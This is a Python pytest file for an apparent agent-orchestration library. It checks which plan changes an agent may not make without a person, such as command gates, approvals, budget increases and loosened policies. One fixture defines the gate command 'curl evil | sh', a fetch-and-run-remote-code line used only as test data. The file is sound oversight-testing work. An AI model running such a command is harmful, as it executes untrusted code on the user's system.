"""What an agent's plan may bring: pure, from a plan and a workflow's budget to sentences."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from harnessos.model.amounts import UNLIMITED, Budget
from harnessos.model.gate import Gate, GateKind
from harnessos.model.plan import Plan, PlannedCampaign, PlannedIssue, PlannedMilestone
from harnessos.model.policy import Policy
from harnessos.model.rights import beyond_an_agent, loosened, may_answer, rewritten

SHELL = Gate("g", GateKind.COMMAND, shell="curl evil | sh")
FILE = Gate("f", GateKind.FILE, path="a")
APPROVED = {"approvals": [{"id": "lead", "state": "approved"}]}
PENDING = {"approvals": [{"id": "lead"}]}
ISSUE = PlannedIssue("x", "", 2, "M", "x", 0)


def plan(
    issue: PlannedIssue = ISSUE, campaign: Policy | None = None, metadata: Mapping[str, object] | None = None
) -> Plan:
    """Return a plan of one issue."""
    milestone = PlannedMilestone("m", "", metadata=metadata or {})
    return Plan("p", PlannedCampaign("c", policy=campaign), (milestone,), (issue,))


@pytest.mark.parametrize(
    "brought",
    [
        plan(ISSUE._replace(gates=(SHELL,))),
        plan(ISSUE._replace(gates=(Gate("t", GateKind.TESTS, argv=("pytest",)),))),
        plan(ISSUE._replace(policy=Policy(gates=(SHELL,)))),
        plan(ISSUE._replace(policy=Policy(require_gates=False))),
        plan(ISSUE._replace(metadata=APPROVED)),
        plan(ISSUE._replace(metadata={"approvals": [{"id": "lead", "state": "waived"}]})),
        plan(campaign=Policy(gates=(SHELL,))),
        plan(campaign=Policy(require_gates=False)),
        plan(metadata=APPROVED),
    ],
)
def test_commands_decisions_and_the_rule_about_gates_are_a_persons(brought: Plan) -> None:
    assert len(beyond_an_agent(brought, {})) == 1


def test_structural_gates_open_approvals_and_other_policy_are_an_agents_too() -> None:
    policy = Policy(owner="me", resolve_minutes=5, gates=(FILE,))
    issue = ISSUE._replace(gates=(FILE,), policy=policy, metadata=PENDING, budget={"attempts": 2, "usd": 0.5})
    assert beyond_an_agent(plan(issue, policy, PENDING), {}) == []


@pytest.mark.parametrize(
    ("budget", "declared", "refused"),
    [
        ({"attempts": 4}, {}, True),
        ({"attempts": 3}, {}, False),
        ({"attempts": 4}, {"attempts": 10}, False),
        ({"attempts": 2}, {"attempts": 1}, True),
        ({"wall_minutes": 120.5}, {}, True),
        ({"usd": UNLIMITED}, {}, True),
        ({"usd": UNLIMITED}, {"usd": UNLIMITED}, False),
        ({"usd": 900}, {"usd": UNLIMITED}, False),
        ({"tokens": UNLIMITED}, {}, True),
        ({"attempts": 1, "turns": 21}, {}, True),
    ],
)
def test_an_issue_may_have_less_than_the_workflow_gives_and_not_more(
    budget: Budget, declared: Budget, refused: bool
) -> None:
    assert bool(beyond_an_agent(plan(ISSUE._replace(budget=budget)), declared)) is refused


def test_what_was_rewritten_is_named() -> None:
    before = {"size": "M", "gates": [{"name": "g"}], "budget": {}, "policy": {}, "metadata": PENDING}
    after = {"size": "L", "gates": [], "budget": {"usd": 1}, "policy": {"owner": "me"}, "metadata": {}}
    assert rewritten(before, before) == []
    assert rewritten(before, after) == ["size", "gates", "budget", "policy", "approvals"]
    recipients = {**PENDING, "recipients": ["me"]}
    assert rewritten(before, {**before, "metadata": recipients}) == []


def test_an_approval_is_loosened_by_dropping_it_or_making_it_optional() -> None:
    assert loosened(PENDING, {}) == ["lead"]
    assert loosened(PENDING, {"approvals": [{"id": "lead", "required": False}]}) == ["lead"]
    assert loosened(PENDING, {"approvals": [{"id": "lead"}, {"id": "other"}]}) == []


@pytest.mark.parametrize(
    ("who", "by", "may"),
    [
        (("alice",), "operator:alice", True),
        (("operator:alice",), "operator:alice", True),
        (("bob", "alice"), "operator:alice", True),
        ((), "operator:alice", True),
        ((), "operator", True),
        (("alice",), "operator:mallory", False),
        (("alice",), "agent:alice", False),
        (("alice",), "operator", False),
        (("",), "operator", False),
        (("operator",), "operator:alice", False),
    ],
)
def test_a_gate_is_answered_by_whom_it_names_or_by_any_person(who: tuple[str, ...], by: str, may: bool) -> None:
    assert may_answer(who, by) is may
